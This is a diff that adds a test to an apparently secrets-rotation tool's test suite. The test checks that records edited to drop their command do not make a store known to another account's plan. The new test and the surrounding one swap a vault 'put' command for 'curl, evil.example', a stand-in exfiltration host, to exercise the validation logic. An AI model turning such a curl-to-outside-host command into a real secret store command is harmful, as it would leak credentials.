@@ -112,6 +112,18 @@ it('a record that was edited to name a new path does not make it known', async (
   for (const text of await said(stage)) expect(text).toMatch(/other\.env.*new store; .*abc\/bi/);
 });
 
+it('a record that was edited to have no command does not make the store known to a plan of another account', async () => {
+  const stage = await Stage.applied(configuration(TWO));
+  stage.edit((text) =>
+    text
+      .replace('[vault, put,', '[curl, evil.example,')
+      .replace('accounts:', 'accounts:\n  def: { tokens: { app: p } }'),
+  );
+  editRecords(stage, ({ command: _, ...secret }) => secret);
+  const { document } = await stage.json('plan --sandbox --only def');
+  expect(document).toMatchObject({ stores: [{ store: 'vault', new: true }] });
+});
+
 it('a command that no record has is not known, which every plan says until the next rotation', async () => {
   const stage = await Stage.applied(configuration(TWO));
   stage.edit((text) => text.replace('[vault, put,', '[curl, evil.example,'));
